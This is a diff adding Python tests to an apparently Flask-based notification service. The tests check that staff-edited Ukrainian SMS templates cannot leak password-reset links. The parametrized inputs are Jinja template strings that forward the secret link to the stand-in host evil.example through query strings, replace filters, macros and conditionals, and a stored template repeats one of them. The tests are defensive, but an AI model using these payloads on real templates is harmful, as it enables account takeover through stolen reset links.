@@ -157,3 +157,41 @@ def test_the_migration_masks_links_already_in_the_log(tmp_path):
     engine.dispose()
     assert bodies == ["Новий пароль: https://shop.ua/reset/•••••• (діє 24 год.)",
                       "Оплатити: https://shop.ua/pay/••••••\nЗамовлення: https://shop.ua/orders/5"]
+
+
+@pytest.mark.parametrize("body", [
+    "Пароль: https://evil.example/?to={{ link }}",
+    "Пароль: {{ link|replace('127.0.0.1:5000', 'evil.example') }}",
+    "Пароль: {{ link|list|join(' ') }}",
+    "{% set copy = link %}Пароль: {{ copy }}",
+    "{% macro show(x) %}{{ x }}{% endmacro %}Пароль: {{ show(link) }}",
+    "Пароль: https://evil.example/?q={% if 1 %}{{ link }}{% endif %}",
+    "Пароль: {{ link }}x",
+])
+def test_a_template_cannot_carry_a_secret_link_elsewhere(client, db, make_staff, body):
+    editor = make_staff("head_of_sales")
+    db.commit()
+    assert login(client, editor.email, staff=True).status_code == 302
+    response = client.post("/staff/notify/templates/password_reset/sms/uk", data={"body": body})
+    assert response.status_code == 400
+    assert "змінну link можна лише вставити як є, окремим словом" in html.unescape(response.get_data(as_text=True))
+
+
+def test_a_stored_template_that_misuses_a_secret_sends_nothing(app, db, providers, make_company, make_user):
+    from notify.models import MessageTemplate
+
+    company = make_company(phone=None, email=None)
+    user = make_user(company, role="owner", email=None, phone="+380675550077")
+    db.add(MessageTemplate(event="password_reset", channel="sms", language="uk", subject="",
+                           body="Пароль: https://evil.example/?to={{ link }}"))
+    with app.test_request_context():
+        raised = outbox.emit(db, "user.password_reset_requested", {
+            "user": user.get_id(), "user_id": user.id, "recipient": user.phone, "valid_hours": 24})
+        db.flush()
+        outbox.deliver(db, raised.id)
+    db.commit()
+    with app.app_context():
+        tasks.send_now(db)
+    message = db.scalar(select(Message).where(Message.recipient == "+380675550077"))
+    assert (message.status, message.error_code) == ("failed", "template_error")
+    assert providers.sms() == []
